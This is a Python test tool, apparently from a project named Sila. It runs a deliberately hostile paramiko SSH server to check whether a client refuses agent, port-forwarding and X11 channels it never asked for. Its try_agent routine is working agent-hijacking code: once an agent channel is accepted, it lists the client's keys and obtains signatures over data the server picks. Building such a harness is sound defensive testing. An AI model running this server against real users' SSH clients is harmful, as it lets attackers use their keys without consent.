"""A hostile SSH server for Sila's tests (paramiko, in the project's .venv).

It accepts any public key, answers every command as a freshly booted builder would (`id -u` prints
0; every command reads its input and exits 0), and, unasked, opens an `auth-agent@openssh.com`
channel back to the client right after the login and again at each command (and `forwarded-tcpip`
and `x11` channels too). If the client accepts
one, it lists the agent's keys and asks for a signature over data of its choosing, as a compromised
machine would. With --relay it also relays `direct-tcpip` channels (a jump host).

Everything it sees goes to --log, one event a line:
  auth USER KEYTYPE FINGERPRINT         a key offered for USER (and accepted)
  forwarding requested                  the client asked for agent forwarding on a session
  agent channel refused|accepted        what became of the agent channel it opened unasked
  forwarded-tcpip|x11 channel refused|accepted   the same for the other kinds a client must ask for
  agent keys N [FINGERPRINT...]         the agent's answer to "list your keys"
  agent signature LENGTH                the agent signed the server's data
  exec COMMAND                          a command the client ran
  relay HOST:PORT                       a relayed connection

Usage: python hostile_sshd.py --listen ADDR [--port 22] --host-key FILE --log FILE [--relay]
"""

import argparse
import base64
import hashlib
import socket
import struct
import threading

import paramiko

AGENTC_REQUEST_IDENTITIES = 11
AGENT_IDENTITIES_ANSWER = 12
AGENTC_SIGN_REQUEST = 13
AGENT_SIGN_RESPONSE = 14

LOCK = threading.Lock()


def log(path, line):
    with LOCK, open(path, "a") as f:
        f.write(line + "\n")


def fingerprint(blob):
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


def ssh_string(data):
    return struct.pack(">I", len(data)) + data


def read_exact(chan, n):
    data = b""
    while len(data) < n:
        chunk = chan.recv(n - len(data))
        if not chunk:
            raise EOFError("agent channel closed")
        data += chunk
    return data


def agent_request(chan, kind, payload=b""):
    message = bytes([kind]) + payload
    chan.sendall(struct.pack(">I", len(message)) + message)
    length = struct.unpack(">I", read_exact(chan, 4))[0]
    answer = read_exact(chan, length)
    return answer[0], answer[1:]


def try_channels(transport, path):
    """Opens the other channels a client only accepts when it asked for them: remote port
    forwarding and X11."""
    for kind, opening in (
        ("forwarded-tcpip", lambda: transport.open_forwarded_tcpip_channel(("127.0.0.1", 4444), ("127.0.0.1", 22))),
        ("x11", lambda: transport.open_x11_channel(("127.0.0.1", 6010))),
    ):
        try:
            chan = opening()
        except Exception as e:
            log(path, f"{kind} channel refused ({type(e).__name__})")
            continue
        log(path, f"{kind} channel accepted")
        chan.close()


def try_agent(transport, path):
    """Opens an agent channel unasked; if it is accepted, takes what the agent gives."""
    try_channels(transport, path)
    try:
        chan = transport.open_forward_agent_channel()
    except Exception as e:  # refused (ChannelException) or the connection went away
        log(path, f"agent channel refused ({type(e).__name__})")
        return
    log(path, "agent channel accepted")
    try:
        chan.settimeout(5)
        kind, body = agent_request(chan, AGENTC_REQUEST_IDENTITIES)
        if kind != AGENT_IDENTITIES_ANSWER:
            log(path, f"agent answered {kind} to the key list")
            return
        count = struct.unpack(">I", body[:4])[0]
        offset, blobs = 4, []
        for _ in range(count):
            n = struct.unpack(">I", body[offset:offset + 4])[0]
            blobs.append(body[offset + 4:offset + 4 + n])
            offset += 4 + n
            n = struct.unpack(">I", body[offset:offset + 4])[0]
            offset += 4 + n
        log(path, f"agent keys {count} " + " ".join(fingerprint(b) for b in blobs))
        for blob in blobs:
            data = b"data chosen by the hostile server"
            kind, body = agent_request(chan, AGENTC_SIGN_REQUEST, ssh_string(blob) + ssh_string(data) + struct.pack(">I", 0))
            if kind == AGENT_SIGN_RESPONSE:
                log(path, f"agent signature {len(body)}")
    except Exception as e:
        log(path, f"agent error {e}")
    finally:
        chan.close()


class Server(paramiko.ServerInterface):
    def __init__(self, args):
        self.args = args
        self.transport = None
        self.relays = {}

    def get_allowed_auths(self, username):
        return "publickey"

    def check_auth_publickey(self, username, key):
        log(self.args.log, f"auth {username} {key.get_name()} {fingerprint(key.asbytes())}")
        return paramiko.AUTH_SUCCESSFUL

    def check_channel_request(self, kind, chanid):
        if kind == "session":
            return paramiko.OPEN_SUCCEEDED
        return paramiko.OPEN_FAILED_ADMINISTRATIVELY_PROHIBITED

    def check_channel_direct_tcpip_request(self, chanid, origin, destination):
        if not self.args.relay:
            return paramiko.OPEN_FAILED_ADMINISTRATIVELY_PROHIBITED
        self.relays[chanid] = destination
        return paramiko.OPEN_SUCCEEDED

    def check_channel_forward_agent_request(self, channel):
        log(self.args.log, "forwarding requested")
        return True

    def check_channel_exec_request(self, channel, command):
        command = command.decode(errors="replace")
        log(self.args.log, "exec " + command.replace("\n", "\\n"))
        threading.Thread(target=self.run, args=(channel, command), daemon=True).start()
        return True

    def run(self, channel, command):
        try_agent(self.transport, self.args.log)
        # A builder's answers: root, and every command succeeds once its input is read.
        if command.strip().endswith("id -u"):
            channel.sendall(b"0\n")
        else:
            channel.settimeout(30)
            try:
                while channel.recv(65536):
                    pass
            except Exception:
                pass
            channel.sendall(b"hostile\n")
        channel.send_exit_status(0)
        channel.close()


def pump(src, dst):
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            dst.sendall(data)
    except Exception:
        pass
    finally:
        for end in (src, dst):
            try:
                end.close()
            except Exception:
                pass


def relay(chan, destination, path):
    host, port = destination
    log(path, f"relay {host}:{port}")
    try:
        sock = socket.create_connection((host, port), timeout=10)
        sock.settimeout(None)
    except OSError as e:
        log(path, f"relay failed {e}")
        chan.close()
        return
    threading.Thread(target=pump, args=(chan, sock), daemon=True).start()
    pump(sock, chan)


def serve(client, args, host_key):
    transport = paramiko.Transport(client)
    transport.add_server_key(host_key)
    server = Server(args)
    server.transport = transport
    try:
        transport.start_server(server=server)
    except Exception as e:
        log(args.log, f"handshake failed {e}")
        return
    first = True
    while transport.is_active():
        if first and transport.is_authenticated():
            first = False
            threading.Thread(target=try_agent, args=(transport, args.log), daemon=True).start()
        chan = transport.accept(0.2)
        if chan is None:
            continue
        destination = server.relays.pop(chan.get_id(), None)
        if destination is not None:
            threading.Thread(target=relay, args=(chan, destination, args.log), daemon=True).start()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--listen", required=True)
    parser.add_argument("--port", type=int, default=22)
    parser.add_argument("--host-key", required=True)
    parser.add_argument("--log", required=True)
    parser.add_argument("--relay", action="store_true")
    args = parser.parse_args()
    host_key = paramiko.Ed25519Key.from_private_key_file(args.host_key)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((args.listen, args.port))
    listener.listen(16)
    log(args.log, f"listening {args.listen}:{args.port}")
    while True:
        client, _ = listener.accept()
        threading.Thread(target=serve, args=(client, args, host_key), daemon=True).start()


if __name__ == "__main__":
    main()
